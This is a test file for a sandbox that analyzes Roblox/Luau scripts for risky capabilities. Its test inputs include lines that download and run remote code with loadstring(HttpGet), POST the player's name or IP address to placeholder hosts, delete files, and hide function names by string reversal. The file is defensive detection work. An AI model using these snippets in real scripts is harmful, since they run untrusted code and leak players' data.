import { afterAll, describe, expect, test } from 'vitest'
import { analyze, type CapabilityId, mergeRun } from '../src/index.ts'
import { Sandbox } from '../src/sandbox/sandbox.ts'
import { compileModule, startMachine } from '../src/sandbox/vm.ts'

const sandbox = new Sandbox()
afterAll(() => sandbox.close())

const idsOf = async (code: string): Promise<CapabilityId[]> =>
  (await sandbox.run(code)).capabilities.map(({ id }) => id)
const detailsOf = async (code: string, id: CapabilityId): Promise<string[]> => {
  const finding = (await sandbox.run(code)).capabilities.find((one) => one.id === id)
  return (finding?.evidence ?? []).map(({ line, detail }) => `${line} ${detail}`)
}

describe('compile', () => {
  test('accepts code that compiles', async () => {
    expect(await sandbox.compile('local x: number = 1\nx += 2')).toEqual({ compiles: true, error: null })
    expect(await sandbox.compile('')).toEqual({ compiles: true, error: null })
  })

  test('names the line and the reason of the first error', async () => {
    expect(await sandbox.compile('local x = 1\nfoo(')).toEqual({
      compiles: false,
      error: { line: 2, column: null, message: 'Expected identifier when parsing expression, got <eof>' },
    })
  })

  test('gives a verdict on large code', async () => {
    const line = 'x=1\n'
    expect((await sandbox.compile(line.repeat((1 << 20) / line.length))).compiles).toBe(true)
  })

  test.each([
    ['nested too deeply', `\nreturn ${'('.repeat(1500)}1${')'.repeat(1500)}`, /recursion depth/],
    ['needs too many registers', `\nf(${Array.from({ length: 300 }, (_, i) => i).join()})`, /exceeded limit 255/],
  ])('refuses code that %s', async (_, code, message) => {
    const { compiles, error } = await sandbox.compile(code)
    expect(compiles).toBe(false)
    expect(error).toMatchObject({ line: 2, message: expect.stringMatching(message) as string })
  })
})

test('analyzes a script as the analyzer does', async () => {
  const code = 'loadstring(game:HttpGet("https://a.com"))()'
  expect(await sandbox.analyze(code)).toEqual(analyze(code))
})

describe('run', () => {
  test('sees downloads that are run, and continues with what they return', async () => {
    const code =
      'local Hub = loadstring(game:HttpGet("https://a.com/hub"))()\nHub:AddButton({Callback = function() setclipboard("x") end})'
    expect(await detailsOf(code, 'code.remote')).toEqual(['1 loadstring of a download: https://a.com/hub'])
    expect(await detailsOf(code, 'user.clipboard')).toEqual(['2 setclipboard x'])
  })

  test.each([
    ['nested too deeply', `"return " .. string.rep("(", 1500) .. "1" .. string.rep(")", 1500)`, 'recursion depth'],
    ['needs too many registers', `"f(" .. string.rep("1,", 300) .. "1)"`, 'exceeded limit 255'],
  ])('continues after a loadstring of code that %s, as in a game', async (_, text, message) => {
    const code = `local rejected, run = 0, 0
for i = 1, 50 do
	local f, message = loadstring(${text} .. "--" .. i)
	if f == nil and string.find(message, '^%[string "loaded%-%d+"%]:1: .*${message}') then rejected += 1 end
	run += loadstring("return " .. i)()
end
setclipboard(rejected .. " " .. run)`
    expect((await sandbox.run(code)).opaque).toEqual([])
    expect(await detailsOf(code, 'user.clipboard')).toEqual(['7 setclipboard 50 1275'])
  })

  test('sees data about the player in what is sent', async () => {
    const code = `request({Url = "https://a.com", Method = "POST", Body = game.HttpService:JSONEncode({n = game.Players.LocalPlayer.Name .. "!"})})`
    expect(await detailsOf(code, 'net.exfiltration')).toEqual(['1 request with the player name'])
  })

  test('sees the address of the player and data about other players in what is sent', async () => {
    const code = `local ip = game:HttpGet("https://api.ipify.org")
request({Url = "https://a.com", Method = "POST", Body = ip})
game.Players.PlayerAdded:Connect(function(p) request({Url = "https://a.com", Method = "POST", Body = p.Name}) end)`
    const expected = ['2 request with the IP address', '3 request with the player name']
    expect(await detailsOf(code, 'net.exfiltration')).toEqual(expected)
  })

  test('runs text that is given to run later', async () => {
    const code = `queue_on_teleport('loadstring(game:HttpGet("https://a.com"))()')
game:GetService("HttpService"):RequestInternal({Url = "https://b.com"}):Start(function(_, r) loadstring(r.Body)() end)`
    expect(await detailsOf(code, 'code.remote')).toEqual([
      '1 loadstring of a download: https://a.com',
      '2 loadstring of a download: https://b.com',
    ])
  })

  test('sees downloads as such, however many there are', async () => {
    const code = 'for i = 1, 300 do loadstring(game:HttpGet("https://a.example/" .. i))() end'
    const ids = (await sandbox.run(code)).capabilities.map(({ id }) => id)
    expect(ids).toEqual(['net.get', 'code.remote'])
  })

  test('knows what calls of unknown objects do by their names', async () => {
    const code = `require(game.ReplicatedStorage.Net):RemoteEvent("x"):FireServer(1)
game:FindFirstChild("X", true):FireServer(1)
game.TextChatService.ChatInputBarConfiguration.TargetTextChannel:SendAsync("hi")
loadstring(script.Source.Value)()
for _, file in listfiles("x") do delfile(file) end
loadstring(getclipboard())()
game:GetService("MarketplaceService"):PerformPurchase(1)
game:GetService("ExperienceService"):LaunchExperience({placeId = 1})
game:GetService("AssetService"):LoadAssetAsync(1)
loadstring(game:HttpGet("https://a.com"))():CreateWindow({KeySystem = true})`
    const { capabilities } = await sandbox.run(code)
    const linesOf = (id: CapabilityId) => capabilities.find((one) => one.id === id)?.evidence.map(({ line }) => line)
    expect(linesOf('game.remote')).toEqual([1, 2])
    expect(linesOf('game.chat')).toEqual([3])
    expect(linesOf('code.dynamic')).toEqual([4, 6])
    expect(linesOf('fs.delete')).toEqual([5])
    expect(linesOf('user.purchase')).toEqual([7])
    expect(linesOf('game.teleport')).toEqual([8])
    expect(linesOf('code.asset')).toEqual([9])
    expect(linesOf('user.key')).toEqual([10])
    expect(linesOf('user.input')).toBeUndefined()
  })

  test('answers names that are looked up in _G', async () => {
    const code = 'local name = ("draobpilctes"):reverse()\n_G[name]("x")'
    expect(await detailsOf(code, 'user.clipboard')).toEqual(['2 setclipboard x'])
    expect(await detailsOf(code, 'needs.executor')).toEqual(['2 setclipboard'])
  })

  test('says what stopped it', async () => {
    const impatient = new Sandbox({ runMs: 300 })
    expect((await impatient.run('setclipboard("x")\nwhile true do end')).opaque).toEqual([
      { reason: 'The run was stopped because it took too long', count: 1 },
    ])
    await impatient.close()
    expect((await sandbox.run('local t = {} while true do t[#t + 1] = {t} end')).opaque).toEqual([
      { reason: 'The run was stopped because it used too much memory', count: 1 },
    ])
  })

  test('names functions of executors without which a script breaks', async () => {
    expect(await detailsOf('print(1)\nsetclipboard("x")', 'needs.executor')).toEqual(['2 setclipboard'])
    expect(await idsOf('if setclipboard then setclipboard("x") end')).toEqual(['user.clipboard'])
  })

  test('continues after calls of missing executor functions', async () => {
    const lines = [
      'print(gethui())',
      'if writefile then writefile("a", "b") end',
      'local hook = hookfunction',
      'local answer = syn.request({Url = "https://a.com"})',
      'hook(print, print)',
      'pcall(setclipboard, "x")',
      'task.spawn(function() print(getgc()) end)',
      'workspace.ChildAdded:Connect(function() delfile("a") end)',
    ]
    const names = ['1 gethui', '4 syn.request', '5 hookfunction', '7 getgc', '8 delfile']
    expect(await detailsOf(lines.join('\n'), 'needs.executor')).toEqual(names)
    // Functions that are only looked up in the same line are not reported.
    expect(await detailsOf(lines.join(' '), 'needs.executor')).toEqual(names.map((name) => name.replace(/^./, '1')))
  })

  test('adds to a card what reading did not find', async () => {
    const code = 'local k = {["a"] = "set" .. "clip"}\ngetfenv()[k[("A"):lower()] .. "board"]("x")'
    const card = mergeRun(analyze(code), await sandbox.run(code))
    expect(card.capabilities.find(({ id }) => id === 'user.clipboard')?.evidence).toMatchObject([{ line: 2 }])
  })
})

describe('a machine', () => {
  const use = async (maxMemory: number, code: string) => {
    const machine = startMachine(await compileModule(), maxMemory, () => undefined)
    const run = () => machine.call(machine.load(code, 'script'))
    return { machine, run }
  }
  const takeMiB = (count: number) => `local t = {} for i = 1, ${count} do t[i] = string.rep("x", 1048576 - i) end`

  test('starts with little memory and grows', async () => {
    const small = await use(64, takeMiB(5))
    small.run()
    expect(small.machine.hasGrown).toBe(false)
    const large = await use(64, takeMiB(40))
    large.run()
    expect(large.machine).toMatchObject({ hasGrown: true, isOutOfMemory: false })
  })

  test('gives up when code inside wants more memory than it may have', async () => {
    const { machine, run } = await use(32, takeMiB(40))
    expect(run).toThrow('The machine is out of memory')
    expect(machine.isOutOfMemory).toBe(true)
  })
})
